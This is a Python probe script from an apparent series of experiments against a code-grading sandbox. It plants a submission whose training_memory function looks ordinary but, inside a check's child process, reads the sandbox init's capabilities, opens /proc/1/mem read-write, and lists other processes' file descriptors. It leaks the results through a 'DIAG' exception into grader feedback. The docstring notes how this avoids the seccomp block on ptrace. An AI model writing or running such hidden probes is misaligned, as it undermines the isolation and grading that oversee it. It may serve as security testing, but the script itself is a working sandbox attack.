"""A15 (from A14): list the descriptors of the observer sandbox's pid 1 (bwrap init, whose /proc/1/mem opened read-write in A14) and the observer's, from a check's child.
A14: /proc/1 of a sandbox is the only dumpable process there (a03/a13: its autogroup and oom_score_adj are
writable). Is /proc/1/mem writable from a check's child (a plain open/write, no ptrace call for seccomp to refuse)?
Report pid 1's CapEff/Seccomp/NoNewPrivs and whether /proc/1/mem opens read-write and reads."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

TM = r'''
import os
_KPID = os.getpid()
def training_memory(model, optimizer):
    if os.getpid() != _KPID:
        out = [l.strip() for l in open("/proc/1/status") if l.startswith(("Name", "Uid", "CapEff", "CapPrm", "Seccomp", "NoNewPrivs"))]
        out.append(open("/proc/1/cmdline", "rb").read()[:200])
        for mode in (os.O_RDONLY, os.O_RDWR):
            try:
                fd = os.open("/proc/1/mem", mode)
                maps = open("/proc/1/maps").read().split("\n")[0]
                start = int(maps.split("-")[0], 16)
                os.lseek(fd, start, 0)
                out.append(("mem", mode, "opened", maps[:60], os.read(fd, 4)))
                os.close(fd)
            except OSError as e:
                out.append(("mem", mode, e.errno))
        out = []
        for pid in ("1", "2", str(os.getppid())):
            try:
                fds = {}
                for n in os.listdir(f"/proc/{pid}/fd"):
                    try: fds[n] = os.readlink(f"/proc/{pid}/fd/{n}")
                    except OSError as e: fds[n] = e.errno
                out.append((pid, open(f"/proc/{pid}/cmdline","rb").read()[:40], fds))
            except OSError as e:
                out.append((pid, e.errno))
        raise RuntimeError("DIAG " + repr(out))
    seen = {id(p): p for p in model.parameters()}
    w = sum(p.numel() * p.element_size() for p in seen.values())
    g = sum(p.grad.numel() * p.grad.element_size() for p in seen.values() if p.grad is not None)
    s = sum(v.numel() * v.element_size() for st in optimizer.state.values() for v in st.values() if hasattr(v, "numel"))
    return {"weights": w, "gradients": g, "optimizer_state": s, "total": w + g + s}
'''
root = build("a15", {"mallory": {"training_memory": TM}})
grade(root)
scores(root)
for s in ("aaron", "mallory", "zoe"): print(s, cell_scores(root, s))
import subprocess
print(subprocess.run("grep -rhoa 'DIAG \\[[^<]*' " + root + "/feedback | head -1", shell=True, capture_output=True, text=True).stdout)
